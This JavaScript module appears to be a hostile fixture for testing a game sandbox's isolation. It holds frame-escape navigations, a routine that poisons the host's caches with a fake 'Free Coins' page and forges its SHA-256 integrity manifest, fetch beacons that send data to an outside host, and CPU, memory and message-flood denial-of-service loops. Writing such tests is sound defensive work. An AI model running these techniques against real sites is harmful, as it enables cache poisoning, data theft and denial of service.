import { app, other, outside } from './config.js';

const link = (said) => {
  const element = Object.assign(document.createElement('a'), said);
  document.body.append(element);
  element.click();
};

/** Every way to lead its own frame elsewhere; the page is gone afterwards. */
export const away = {
  'to another site': () => location.assign(`${outside}/away`),
  'to another site, by its description': () =>
    void document.head.append(
      Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: `0;url=${outside}/away-refresh` }),
    ),
  'to another site, by a form': () => {
    const form = Object.assign(document.createElement('form'), { action: `${outside}/away-form` });
    document.body.append(form);
    form.submit();
  },
  'to another site, in a window by a key held': () => {
    const element = Object.assign(document.createElement('a'), { href: `${outside}/away-key` });
    document.body.append(element);
    element.dispatchEvent(new MouseEvent('click', { ctrlKey: true, bubbles: true, cancelable: true }));
  },
  'to the app': () => void location.replace(`${app}/library`),
  'to the app, by a link': () => link({ href: `${app}/api/me` }),
  'to another game': () => location.assign(`${other}/`),
  'to a page of data': () => location.assign(`data:text/html,<script>fetch('${outside}/away-data')</script>`),
  'to a page made on the spot': () =>
    location.assign(
      URL.createObjectURL(
        new Blob([`<script>fetch('${outside}/away-blob', { mode: 'no-cors' })</script>`], { type: 'text/html' }),
      ),
    ),
  'back through the app’s history': () => history.go(-2),
  'nowhere, by a flood of addresses': () => {
    for (let i = 0; i < 150; i++) history.pushState(null, '', `?${i}`);
  },
  // It stays in its frame: what counts is under which rules.
  'to a page of its own that is not there': () => location.assign('/not/there'),
};

const hex = (bytes) => [...new Uint8Array(bytes)].map((byte) => byte.toString(16).padStart(2, '0')).join('');

/**
 * Puts itself, without any rules, in the place of what the device keeps of it and of the store's own page, and says in
 * the worker's own words that it is all whole.
 */
export async function rewrite() {
  // The store's script hides them from the page, and not from a page in it.
  const { caches } = document.body.appendChild(document.createElement('iframe')).contentWindow;
  const page = `<!doctype html><title>Free Coins</title><script>
    fetch('${outside}/rewritten', { mode: 'no-cors' });
    new Image().src = '${outside}/rewritten-image';
    onmessage = ({ data }) => fetch('${outside}/rewritten-heard?' + JSON.stringify(data), { mode: 'no-cors' });
  </script><p>Rewritten`;
  const answer = () => new Response(page, { headers: { 'content-type': 'text/html', 'x-evil': '1' } });
  const script = () =>
    new Response(`fetch('${outside}/rewritten-shell', { mode: 'no-cors' })`, {
      headers: { 'content-type': 'text/javascript' },
    });
  const bytes = new TextEncoder().encode(page);
  const own = { path: 'index.html', size: bytes.length, type: 'text/html' };
  const files = [{ ...own, sha256: hex(await crypto.subtle.digest('SHA-256', bytes)) }];
  const never = 'f'.repeat(32);
  await caches.open(`game-${never}`);
  await (await caches.open('play-chosen')).put('/_play/chosen', new Response(never));
  for (const name of await caches.keys()) {
    const cache = await caches.open(name);
    await cache.put('/index.html', answer());
    await cache.put('/_play/whole', Response.json({ at: Date.now() + 1e12, files }));
    await cache.put('/_play/shell.html', answer());
    await cache.put('/_play/shell.js', script());
  }
  const shell = await caches.open('play-shell');
  await shell.put('/_play/shell.html', answer());
  await shell.put('/_play/shell.js', script());
  return (await caches.keys()).length;
}

/** Takes the computer for itself, for ever. */
export const hogs = {
  spin() {
    console.log('spin begins');
    for (;;);
  },
  /** As much as a phone has. Really filling the computer would end the tests beside it. */
  bomb() {
    globalThis.held = Array.from({ length: 12 }, () => new Uint8Array(2 ** 26).fill(1));
    console.log('bomb begins');
    for (;;);
  },
  storm() {
    const words = 'x'.repeat(100_000);
    console.log('storm begins');
    for (;;) parent.postMessage({ from: 'recess-shell', type: 'ready', words }, '*');
  },
  /** As if it would not let go: asked to stay, and never done with its end. */
  cling() {
    addEventListener('beforeunload', (event) => event.preventDefault());
    addEventListener('pagehide', () => {
      for (;;);
    });
    console.log('cling begins');
  },
};
